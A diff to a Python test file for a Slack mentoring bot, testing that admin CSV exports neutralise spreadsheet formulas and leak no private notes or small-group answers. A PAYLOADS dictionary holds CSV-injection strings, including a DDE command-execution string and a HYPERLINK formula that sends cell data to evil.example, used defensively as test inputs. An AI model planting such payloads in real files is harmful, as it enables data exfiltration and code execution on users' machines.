@@ -1,17 +1,30 @@
 """The admins' *Results* on Home, and its *Export CSV* and *Chart* buttons (signed requests through the real app,
 files_upload_v2 against the fake Web API, both databases): admins only, the exports name no one in the feedback
-text and carry no rating, the chart is a real PNG, and ending a program sends its chart and summary."""
+text and carry no rating, hold only what the forms tell people admins see, from groups of 3 or more, and no cell a
+spreadsheet would run; the chart is a real PNG, and ending a program sends its chart and summary."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import json
+from pathlib import Path
+from typing import Any
 
+from sqlmodel import select, update
+
+from bot import results
+from bot.runtime.cli import emit_report
+from prompts import feedback as fb
+from storage import programs as programs_repo
 from storage.db import Database
+from storage.models import Feedback, Pair, Program, SurveyAnswer
 from tests.support.programs import programs
-from tests.support.results import seed
+from tests.support.results import TODAY, seed, seed_surveys
 from tests.support.signed import SlackSender
+
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")  # a cell beginning so is a formula (OWASP)
 
 
 async def results_home(slack: SlackSender) -> str:
@@ -38,7 +51,8 @@ async def test_admins_export_csvs_and_a_chart_by_dm(slack: SlackSender, db: Data
     assert len(pairs) == 1 + 7 + 1, "a row per check-in answer, one for the pair without answers"
     text = files["feedback-text.csv"]["content"].decode()
     assert text.splitlines()[0] == "kind,text", "one text per row: nothing ties two texts of one person"
-    assert "private words" in text and "private note" in text
+    assert "private words" in text, "what 3 mentees learned"
+    assert "private note" not in text, "notes are for partners, never for admins"
     for leak in ("UE1", "UM1", "mentee", "mentor", ",5", ",4"):
         assert leak not in text, "anonymous: no name, side or rating"
 
@@ -75,3 +89,165 @@ async def test_ending_a_program_sends_its_chart_and_summary(slack: SlackSender, 
     [chart] = list(slack.fake.uploads.values())
     assert chart["filename"] == "chart.png"
     assert any("(ended)" in c["text"] for c in slack.fake.calls_to("chat.postMessage") if c["channel"] == "UADMIN")
+
+
+def feedback_values(*, topic: str, learned: str, note: str = "", share: bool = False) -> dict[str, Any]:
+    """The feedback form's ``state.values`` as Slack sends them (rating 4)."""
+    picked = {"text": {"type": "plain_text", "text": "4"}, "value": "4"}
+    ticked = [{"text": {"type": "plain_text", "text": "Share"}, "value": "share"}] if share else []
+    return {
+        fb.RATING: {fb.RATING: {"type": "static_select", "selected_option": picked}},
+        fb.TOPIC: {fb.TOPIC: {"type": "plain_text_input", "value": topic}},
+        fb.LEARNED: {fb.LEARNED: {"type": "plain_text_input", "value": learned}},
+        fb.NOTE: {fb.NOTE: {"type": "plain_text_input", "value": note}},
+        fb.SHARE: {fb.SHARE: {"type": "checkboxes", "selected_options": ticked}},
+    }
+
+
+async def give_feedback(
+    slack: SlackSender, db: Database, team_id: str, author: str, *, topic: str, learned: str, **note: Any
+) -> None:
+    """``author`` (UM<i> or UE<i> of the seeded program) submits the feedback form on their pair's meeting at
+    check-in 1, through a signed request; waits until it is saved."""
+    async with db.read() as session:
+        [pair] = (
+            await session.exec(
+                select(Pair).where(
+                    Pair.team_id == team_id,
+                    Pair.state == "active",
+                    (Pair.mentor_id == author) | (Pair.mentee_id == author),
+                )
+            )
+        ).all()
+    partner = pair.mentee_id if author == pair.mentor_id else pair.mentor_id
+    role = "mentor" if author == pair.mentor_id else "mentee"
+    form = fb.feedback_modal(pair_id=pair.id or 0, period=1, partner_id=partner, role=role, topic="")
+    status, _ = await slack.submit_view(form, feedback_values(topic=topic, learned=learned, **note), user_id=author)
+    assert status == 200
+    for _ in range(100):
+        async with db.read() as session:
+            saved = (
+                await session.exec(
+                    select(Feedback.learned).where(
+                        Feedback.team_id == team_id, Feedback.author_id == author, Feedback.period == 1
+                    )
+                )
+            ).first()
+        if saved == learned.strip():
+            return
+        await asyncio.sleep(0.05)
+    raise AssertionError(f"{author}'s feedback was not saved")
+
+
+async def export(slack: SlackSender, program_id: int) -> dict[str, list[list[str]]]:
+    """*Export CSV* clicked by an admin: each file's rows, as a spreadsheet would read them."""
+    slack.fake.add_user("UADMIN", is_admin=True)
+    before = len(slack.fake.calls_to("files.completeUploadExternal"))
+    await slack.click("results_export", user_id="UADMIN", container="view", value=str(program_id))
+    await slack.fake.wait_for("files.completeUploadExternal", before + 1)
+    uploads = list(slack.fake.uploads.values())[-2:]
+    return {u["filename"]: list(csv.reader(io.StringIO(u["content"].decode(), newline=""))) for u in uploads}
+
+
+PAYLOADS = {  # typed in the feedback form as what they learned or taught
+    "UE1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "UE2": "+cmd|' /C calc'!A0",
+    "UE3": "@SUM(1+1)",
+    "UM1": "-2+3",
+    "UM2": "\t=1",
+    "UM3": "\r=1",
+}
+
+
+async def test_no_exported_cell_runs_in_a_spreadsheet(slack: SlackSender, db: Database, team_id: str) -> None:
+    await seed(db, team_id)
+    current = (await programs(db, team_id))["Digital skills 2027"]
+    for author, payload in PAYLOADS.items():
+        await give_feedback(slack, db, team_id, author, topic="@SUM(1+1)", learned=payload)
+
+    files = await export(slack, current.id or 0)
+    cells = [cell for rows in files.values() for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(DANGEROUS)], "no cell a spreadsheet would run"
+    texts = {row[1] for row in files["feedback-text.csv"][1:]} - {"private words"}  # seeded, at check-in 2
+    assert texts == {"'" + payload.strip() for payload in PAYLOADS.values()}, "each text as typed, after a '"
+
+
+async def test_no_cell_of_report_format_csv_runs_in_a_spreadsheet(
+    slack: SlackSender, db: Database, team_id: str, tmp_path: Path
+) -> None:
+    """``report --format csv``: the program's name is an admin's, the topics are what people typed."""
+    await seed(db, team_id)
+    current = (await programs(db, team_id))["Digital skills 2027"]
+    for author in ("UE1", "UE2", "UE3"):  # 3 people name the topic: it is among the most discussed
+        await give_feedback(slack, db, team_id, author, topic="@SUM(1+1)", learned="")
+    async with db.session() as session:
+        await session.exec(update(Program).where(Program.id == current.id).values(name="=1+1"))  # type: ignore[arg-type]
+    async with db.read() as session:
+        found = await results.report(
+            session,
+            team_id=team_id,
+            programs=list(await programs_repo.list_programs(session, team_id=team_id)),
+            name="=1+1",
+            today=TODAY,
+        )
+    assert emit_report(found, "=1+1", "csv", str(tmp_path)) == 0
+    rows = list(csv.reader(io.StringIO((tmp_path / "report.csv").read_text(encoding="utf-8"), newline="")))
+    assert rows[0] == ["figure", "'=1+1", "Pilot"]
+    assert ["Topic #1 (people)", "'@sum(1+1) (3)", "–"] in rows
+    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
+
+
+async def test_the_free_text_export_holds_only_what_the_forms_promise(
+    slack: SlackSender, db: Database, team_id: str
+) -> None:
+    """Seeded: UE1–UE3 (3 mentees) wrote "private words" and a "private note"; UM1 and UM2 (2 mentors) too."""
+    await seed(db, team_id)
+    await seed_surveys(db, team_id)  # 4 people answered what they would change half-way
+    current = (await programs(db, team_id))["Digital skills 2027"]
+    async with db.session() as session:  # only 2 people answered the end survey
+        session.add_all(
+            SurveyAnswer(
+                team_id=team_id, program_id=current.id or 0, user_id=u, stage="end", recommend=9, change="end words"
+            )
+            for u in ("UE1", "UE2")
+        )
+    await give_feedback(slack, db, team_id, "UM1", topic="", learned="mentor one", note="kept note")
+    await give_feedback(slack, db, team_id, "UM2", topic="", learned="mentor two", note="shared note", share=True)
+    await slack.fake.wait_for("chat.postMessage", where=lambda c: "shared note" in c["text"])  # to UE2 only
+
+    files = await export(slack, current.id or 0)
+    text = [row for row in files["feedback-text.csv"]]
+    assert text[0] == ["kind", "text"]
+    assert sorted(map(tuple, text[1:])) == [
+        *[("learned_or_taught", "private words")] * 5,  # the 3 mentees' feedback on 5 meetings
+        *[("what_to_change", "private change")] * 4,  # half-way
+    ], "no note, shared or not; nothing from the 2 mentors, nor from the end survey's 2 people"
+    everything = json.dumps(files)
+    for hidden in ("private note", "kept note", "shared note", "mentor one", "mentor two", "end words"):
+        assert hidden not in everything
+
+    await give_feedback(slack, db, team_id, "UM3", topic="", learned="mentor three")  # a third mentor writes
+    files = await export(slack, current.id or 0)
+    learned = sorted(row[1] for row in files["feedback-text.csv"][1:] if row[0] == "learned_or_taught")
+    assert learned == ["mentor one", "mentor three", "mentor two", *["private words"] * 5]
+    assert "note" not in json.dumps(files)
+
+
+async def test_survey_texts_given_before_the_form_said_admins_read_them_are_never_exported(
+    slack: SlackSender, db: Database, team_id: str
+) -> None:
+    """The survey form once promised "only totals and averages": what those answers would change stays unread."""
+    await seed(db, team_id)
+    await seed_surveys(db, team_id)  # 4 people answered half-way on today's form
+    current = (await programs(db, team_id))["Digital skills 2027"]
+    async with db.session() as session:  # 3 people answered the end survey on the old form (as migration 0011 left)
+        session.add_all(
+            SurveyAnswer(
+                team_id=team_id, program_id=current.id or 0, user_id=u, stage="end", recommend=9, change="old words"
+            )
+            for u in ("UE1", "UE2", "UE3")
+        )
+    files = await export(slack, current.id or 0)
+    changes = [row[1] for row in files["feedback-text.csv"][1:] if row[0] == "what_to_change"]
+    assert changes == ["private change"] * 4
+    assert "old words" not in json.dumps(files)
